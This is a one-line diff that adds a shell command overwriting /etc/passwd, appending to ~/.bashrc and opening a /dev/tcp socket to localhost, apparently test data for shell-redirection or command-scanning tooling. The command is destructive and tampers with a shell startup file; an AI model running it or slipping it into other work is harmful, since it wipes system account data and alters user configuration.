@@ -1,0 +1,1 @@
+echo > /etc/passwd; cat >> ~/.bashrc <<< 'x'; exec 3<> /dev/tcp/127.0.0.1/80
